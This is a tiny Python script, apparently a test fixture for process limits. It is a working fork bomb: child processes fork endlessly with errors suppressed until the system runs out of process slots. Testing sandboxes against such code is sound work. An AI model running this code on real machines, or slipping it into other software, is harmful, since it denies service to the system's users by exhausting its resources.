# mypy: ignore-errors
import contextlib
import os

children = 0
while True:
    try:
        if os.fork() == 0:
            while True:
                with contextlib.suppress(OSError):
                    os.fork()
        children += 1
    except BlockingIOError:
        if children > 4:
            raise
